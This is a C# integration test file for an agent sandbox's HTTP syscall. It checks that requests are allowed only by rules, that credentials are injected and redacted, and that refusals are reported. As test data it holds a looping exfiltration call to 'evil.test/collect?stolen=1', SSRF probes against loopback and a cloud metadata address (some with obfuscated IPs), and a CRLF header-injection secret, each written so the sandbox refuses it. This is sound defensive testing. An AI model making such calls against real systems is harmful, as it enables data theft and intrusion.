using System.Globalization;
using System.Text;
using Analemma.Abi;
using Analemma.Abi.Syscalls;
using Analemma.Client;
using static Analemma.Integration.Tests.Kernel.RunningKernel;

namespace Analemma.Integration.Tests.Network;

/// <summary>SYS_HTTP, from a real sandbox to a server on this host.</summary>
public sealed class HttpCallTests
{
    [Fact]
    public async Task A_request_goes_out_with_the_rules_headers_and_comes_back_without_them()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.AnswerAsync(
            201,
            $"you sent {exchange.Request.Headers["Authorization"]} and {Text(exchange)}",
            $"X-Echo: {exchange.Request.Headers["Authorization"]}\r\nSet-Cookie: a=1\r\nSet-Cookie: b=2\r\n"
            + "Connection: keep-alive, X-Hop\r\nX-Hop: 1\r\n"));

        var (output, _) = await stage.RunAsync(
            """
            answer = attempt(kernel.http, URL + "/a/../b?q=1", method="post", body="grüße",
                             headers={"authorization": "mine", "X-Own": "1", "content-type": "text/plain"})
            print(answer.headers, answer.header("X-Echo"), answer.redacted)
            print(kernel.inspect().network)
            """,
            stage.WithSecret);

        var request = Assert.Single(stage.Server.Requests);
        Assert.Equal("/b?q=1", request.Path);
        Assert.Equal($"Bearer {NetworkStage.Canary}", request.Headers["Authorization"]);
        Assert.Equal($"{NetworkStage.Host}:{stage.Port}", request.Headers["Host"]);
        Assert.Equal(("1", "text/plain"), (request.Headers["X-Own"], request.Headers["Content-Type"]));
        Assert.Equal("grüße", Encoding.UTF8.GetString(request.Body));
        var stars = new string('*', NetworkStage.Canary.Length);
        Assert.Contains($"answer 201 you sent Bearer {stars} and grüße", output, StringComparison.Ordinal);
        Assert.Contains($"Bearer {stars} 2", output, StringComparison.Ordinal);
        Assert.Contains("('set-cookie', 'a=1'), ('set-cookie', 'b=2')", output, StringComparison.Ordinal);
        Assert.DoesNotContain("x-hop", output, StringComparison.Ordinal);
        Assert.DoesNotContain(NetworkStage.Canary, output, StringComparison.Ordinal);
        Assert.Contains($"{stage.Url} with Authorization", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_denial_says_what_would_do_and_is_an_event_and_counted()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.AnswerAsync(200, "reached"));
        var port = stage.Port;
        var rules = new[]
        {
            stage.Rule with { Methods = ["GET"], Paths = ["/open/"] },
            new NetworkRule { Host = "other.example.com", Scheme = "http", Ports = [port] },
            new NetworkRule { Host = "two.example.com", Scheme = "http", Ports = [port], Addresses = ["127.0.0.1"] },
            new NetworkRule { Host = "metadata.example.com", Scheme = "http", Ports = [port], AllowPrivate = true },
            new NetworkRule { Host = "nowhere.example.com", Scheme = "http", Ports = [port] },
            new NetworkRule { Host = "127.0.0.1", Scheme = "http", Ports = [port] },
        };

        var (output, end) = await stage.RunAsync(
            """
            port = URL.rsplit(":", 1)[1]
            attempt(kernel.http, URL + "/open/x")
            for url in ("http://evil.test/", URL + "/closed", "http://api.example.com/open/",
                        "http://other.example.com:%s/" % port, "http://two.example.com:%s/" % port, "http://metadata.example.com:%s/" % port,
                        "http://0x7f.1:%s/" % port, "http://[::ffff:127.0.0.1]:%s/" % port):
                attempt(kernel.http, url)
            attempt(kernel.http, URL + "/open/x", method="DELETE")
            attempt(kernel.http, "http://nowhere.example.com:%s/" % port)
            attempt(kernel.http, "http://user:pass@api.example.com/")
            """,
            rules);

        Assert.Single(stage.Server.Requests);
        var lines = output.Split('\n');
        Assert.Equal("answer 200 reached", lines[0]);
        string[] reasons =
        [
            "no rule allows the host evil.test; the rules allow api.example.com",
            "no rule allows the path /closed",
            "no rule allows http://api.example.com; for this host the rules allow http at port",
            "rule 2: other.example.com has the address 127.0.0.1, which is loopback",
            "rule 3: two.example.com has the address 127.0.0.2, which is loopback",
            "rule 4: metadata.example.com has the address 169.254.169.254, which is a cloud's metadata service",
            "rule 6: 127.0.0.1 has the address 127.0.0.1",
            "rule 6: 127.0.0.1 has the address 127.0.0.1",
            "no rule allows DELETE",
        ];
        for (var i = 0; i < reasons.Length; i++)
        {
            Assert.StartsWith("refused permission_denied", lines[i + 1], StringComparison.Ordinal);
            Assert.Contains(reasons[i], lines[i + 1], StringComparison.Ordinal);
        }

        Assert.Contains("refused http_failed", lines[10], StringComparison.Ordinal);
        Assert.Contains("the name has no address", lines[10], StringComparison.Ordinal);
        Assert.Contains("refused invalid_argument url: a user name", lines[11], StringComparison.Ordinal);
        Assert.Equal(reasons.Length, end.Denied);
    }

    [Fact]
    public async Task A_denial_reaches_subscribers_without_the_query()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.AnswerAsync(200, "reached"));
        var agent = await stage.Kernel.SpawnPythonAsync(
            """
            import analemma, time
            kernel = analemma.Kernel()
            while True:
                try:
                    kernel.http("https://evil.test/collect?stolen=1")
                except analemma.PermissionDenied:
                    time.sleep(0.05)
            """,
            spawn => spawn with { Network = NetworkAccess.Allow(stage.Rule) });

        await foreach (var told in stage.Kernel.Client.Events(new Subscribe { Types = ["denied"] }, Token))
        {
            Assert.Equal((agent.Id, "network", "GET https://evil.test/collect"), (told.Process, told.Kind, told.What));
            Assert.Contains("ask the owner for a rule", told.Reason, StringComparison.Ordinal);
            break;
        }
    }

    [Fact]
    public async Task A_redirect_is_an_answer_and_leads_nowhere_by_itself()
    {
        await using var stage = await NetworkStage.StartAsync(
            exchange => exchange.AnswerAsync(302, "", "Location: http://169.254.169.254/latest/meta-data\r\n"));

        var (output, _) = await stage.RunAsync(
            """
            answer = attempt(kernel.http, URL)
            attempt(kernel.http, answer.header("location"))
            """,
            stage.Rule);

        Assert.Contains("answer 302", output, StringComparison.Ordinal);
        Assert.Contains("no rule allows the host 169.254.169.254", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bytes_are_bounded_in_both_directions_and_by_the_caller()
    {
        await using var stage = await NetworkStage.StartAsync(async exchange =>
        {
            if (exchange.Request.Path == "/chunked")
            {
                await exchange.BeginStreamAsync();
                for (var i = 0; i < 20; i++)
                {
                    await exchange.ChunkAsync(new string('x', 100));
                }

                await exchange.EndStreamAsync();
                return;
            }

            await exchange.AnswerAsync(
                200, new string('x', int.Parse(exchange.Request.Path[1..], CultureInfo.InvariantCulture)));
        });

        var (output, end) = await stage.RunAsync(
            """
            print(len(kernel.http(URL + "/1000").body))
            attempt(kernel.http, URL + "/1001")
            attempt(kernel.http, URL + "/chunked")
            attempt(kernel.http, URL + "/11", max_bytes=10)
            attempt(kernel.http, URL + "/1", method="PUT", body=b"x" * 101)
            print(kernel.http(URL + "/1", method="PUT", body=b"x" * 100).status)
            """,
            stage.Rule with { RequestBytes = 100, ResponseBytes = 1000 });

        var lines = output.Split('\n');
        Assert.Equal("1000", lines[0]);
        Assert.All(lines[1..5], line => Assert.StartsWith("refused too_large", line, StringComparison.Ordinal));
        Assert.Equal("200", lines[5]);
        Assert.Equal(4, end.Denied);
    }

    [Fact]
    public async Task A_large_body_streams()
    {
        await using var stage = await NetworkStage.StartAsync(async exchange =>
        {
            await exchange.BeginStreamAsync();
            var piece = new byte[64 * 1024];
            for (var i = 0; i < 320; i++)
            {
                await exchange.ChunkAsync(piece);
            }

            await exchange.EndStreamAsync();
        });

        var (output, _) = await stage.RunAsync(
            """
            stream = kernel.http_stream(URL)
            total = 0
            for piece in stream:
                total += len(piece)
            print(total, stream.gather().status)
            """,
            stage.Rule);

        Assert.Equal("20971520 200\n", output);
    }

    [Fact]
    public async Task Hosts_that_stall_vanish_or_talk_nonsense_are_typed_failures()
    {
        await using var stage = await NetworkStage.StartAsync(async exchange =>
        {
            switch (exchange.Request.Path)
            {
                case "/stall":
                    await exchange.StallAsync();
                    break;
                case "/slow":
                    await exchange.BeginStreamAsync();
                    await exchange.ChunkAsync("a beginning");
                    await exchange.StallAsync();
                    break;
                case "/cut":
                    await exchange.WriteAsync("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf");
                    exchange.Close();
                    break;
                case "/gone":
                    exchange.Close();
                    break;
                case "/long":
                    await exchange.WriteAsync($"HTTP/1.1 200 OK\r\nX: {new string('x', 100_000)}\r\n\r\n");
                    exchange.Close();
                    break;
                default:
                    await exchange.WriteAsync("this is no HTTP\r\n\r\n");
                    exchange.Close();
                    break;
            }
        });

        var (output, _) = await stage.RunAsync(
            """
            for path in ("/stall", "/slow"):
                attempt(kernel.http, URL + path, timeout=0.5)
            for path in ("/cut", "/gone", "/long", "/nonsense"):
                attempt(kernel.http, URL + path)
            attempt(kernel.http, "http://api.example.com:1/")
            print("alive", kernel.echo("yes"))
            """,
            stage.Rule,
            stage.Rule with { Ports = [1] });

        var codes = output.Split('\n').Where(line => line.StartsWith("refused", StringComparison.Ordinal))
            .Select(line => line.Split(' ')[1]);
        Assert.Equal(["timed_out", "timed_out", .. Enumerable.Repeat("http_failed", 5)], codes);
        Assert.Contains("connection refused", output, StringComparison.Ordinal);
        Assert.Contains("alive yes", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_request_that_is_taken_back_hangs_up()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.StallAsync());
        var agent = await stage.Kernel.SpawnPythonAsync(
            $"""
            import analemma
            kernel = analemma.Kernel(timeout=None)
            kernel.http("{stage.Url}", timeout=600)
            """,
            spawn => spawn with { Network = NetworkAccess.Allow(stage.Rule) });
        await stage.Server.Received.WaitAsync(Token);

        await stage.Kernel.Client.KillAsync(new Kill { Id = agent.Id, GraceMs = 0 }, Token);

        await stage.Server.ClientLeft.WaitAsync(TimeSpan.FromSeconds(30), TimeProvider.System, Token);
    }

    [Fact]
    public async Task A_secret_that_is_not_set_or_fits_in_no_header_sends_nothing()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.AnswerAsync(200, "reached"));
        await stage.Kernel.Client.SecretRemoveAsync(new SecretRemove { Name = "token" }, Token);
        var (unset, _) = await stage.RunAsync("attempt(kernel.http, URL)", stage.WithSecret);
        await stage.Kernel.Client.SecretSetAsync(
            new SecretSet { Name = "token", Value = "canary\r\nX-Injected: 1" }, Token);
        var (unfit, _) = await stage.RunAsync("attempt(kernel.http, URL)", stage.WithSecret);

        Assert.Contains("refused not_configured", unset, StringComparison.Ordinal);
        Assert.Contains("analemma secret set token", unset, StringComparison.Ordinal);
        Assert.Contains("refused not_configured", unfit, StringComparison.Ordinal);
        Assert.DoesNotContain("canary", unfit, StringComparison.Ordinal);
        Assert.Empty(stage.Server.Requests);
    }

    [Fact]
    public async Task Programs_of_agentos_get_the_shape_that_they_know()
    {
        await using var stage = await NetworkStage.StartAsync(
            exchange => exchange.AnswerAsync(200, $"{{\"said\":\"{Text(exchange)}\"}}"));

        var (output, _) = await stage.RunAsync(
            """
            import agentos
            with agentos.AgentOSClient(os.environ["ANALEMMA_SOCKET"]) as old:
                for request in ({"url": URL + "/x", "method": "POST", "body": "hi", "async": False},
                                {"url": "https://evil.test/", "async": False}, {"async": False}, {"url": URL}):
                    print(old.call(0x50, json.dumps(request)).payload_str)
                results = []
                while not results:
                    results = json.loads(old.call(0x80, "{}").payload_str)["results"]
                print(old.http(URL, "PUT", {"X-A": "1"}, "hello")["body"])
                print(results[0]["opcode_name"], json.loads(results[0]["payload"])["status_code"])
            """,
            stage.Rule);

        var lines = output.Split('\n');
        const string said = "\"success\":true,\"body\":\"{\\\"said\\\":\\\"hi\\\"}\",\"status_code\":200";
        Assert.Contains(said, lines[0], StringComparison.Ordinal);
        Assert.Contains("\"success\":false", lines[1], StringComparison.Ordinal);
        Assert.Contains("Permission denied: URL not allowed", lines[1], StringComparison.Ordinal);
        Assert.Contains("\"status_code\":0", lines[1], StringComparison.Ordinal);
        Assert.Contains("url required", lines[2], StringComparison.Ordinal);
        Assert.Contains("\"status\":\"accepted\"", lines[3], StringComparison.Ordinal);
        Assert.Equal("{\"said\":\"hello\"}", lines[4]);
        Assert.Equal("HTTP 200", lines[5]);
    }

    [Fact]
    public async Task By_https_a_host_must_show_a_trusted_certificate_and_http_is_upgraded_to_it()
    {
        var trusted = Path.GetTempFileName();
        await using TlsServer server = new(NetworkStage.Host, trusted);
        NetworkRule rule = new()
        {
            Host = NetworkStage.Host,
            Ports = [server.Port],
            AllowPrivate = true,
            Headers = new Dictionary<string, string> { ["X-Key"] = "${secret:token}" },
        };
        var script =
            $"""
            attempt(kernel.http, "https://{NetworkStage.Host}:{server.Port}/one")
            attempt(kernel.http, "http://{NetworkStage.Host}:{server.Port}/two")
            """;

        await using (var trusting = await NetworkStage.StartAsync(
            exchange => exchange.StallAsync(), new Dictionary<string, string> { ["SSL_CERT_FILE"] = trusted }))
        {
            var (output, _) = await trusting.RunAsync(script, rule);
            Assert.Equal(
                "answer 200 over tls: GET /one HTTP/1.1\nanswer 200 over tls: GET /two HTTP/1.1\n", output);
            Assert.Contains($"X-Key: {NetworkStage.Canary}", server.Received, StringComparison.Ordinal);
        }

        await using var doubting = await NetworkStage.StartAsync(exchange => exchange.StallAsync());
        var (refused, _) = await doubting.RunAsync(script, rule);
        Assert.Equal(2, refused.Split("refused http_failed").Length - 1);
        Assert.Contains("certificate is not trusted", refused, StringComparison.Ordinal);
        File.Delete(trusted);
    }

    [Fact]
    public async Task Who_shares_the_hosts_network_may_ask_by_the_kernel_too()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.AnswerAsync(200, "reached"));

        var (output, _) = await stage.RunAsync("attempt(kernel.http, URL)", spawn => spawn with { Network = true });

        Assert.Equal("answer 200 reached\n", output);
    }

    [Fact]
    public async Task A_client_on_the_host_has_no_rules_to_send_by()
    {
        await using var stage = await NetworkStage.StartAsync(exchange => exchange.AnswerAsync(200, "reached"));
        var refused = await Assert.ThrowsAsync<SyscallException>(
            () => stage.Kernel.Client.HttpAsync(new Abi.Syscalls.Http { Url = stage.Url }, Token));
        Assert.Equal(SysErrorCode.InvalidArgument, refused.Code);
    }

    private static string Text(Models.Exchange exchange) => Encoding.UTF8.GetString(exchange.Request.Body);
}
